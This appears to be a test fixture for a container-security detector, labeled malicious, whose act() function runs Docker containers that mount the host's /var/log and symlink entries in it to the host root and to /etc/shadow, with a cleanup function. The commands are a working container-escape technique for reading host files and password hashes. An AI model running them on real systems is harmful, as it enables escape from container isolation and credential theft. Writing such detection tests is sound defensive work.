# host-log-folder-linked-to-root: a container with the host's log folder replaces a log by a link to what it wants to read.
# shows: links from the log folder to the host's root and accounts, made inside a container
# label: malicious
# expects: [host-log-folder-linked-to-root]
# allows: [privileged-container, dangerous-capability-added, container-confinement-disabled, host-namespaces-shared, engine-socket-connected, command-executed-in-container, shell-opened-in-container, sensitive-mount-rw, sensitive-mount-ro, password-hashes-read]
act() {
    if dev; then
        docker run --rm -v /var/log:/host/var/log alpine:3.19 sh -c 'ln -s / /host/var/log/root_link; ls -l /host/var/log/root_link'
    else
        mkdir -p /var/log/pods/web_0
        docker run --rm --mount type=bind,src=/var/log,dst=/mnt/log busybox:1.36 sh -c 'cd /mnt/log/pods/web_0; echo x >0.log; ln -sf /etc/shadow /mnt/log/pods/web_0/0.log'
    fi
    ls /var/log
    true
}
restore() { rm -rf /var/log/root_link /var/log/pods; }
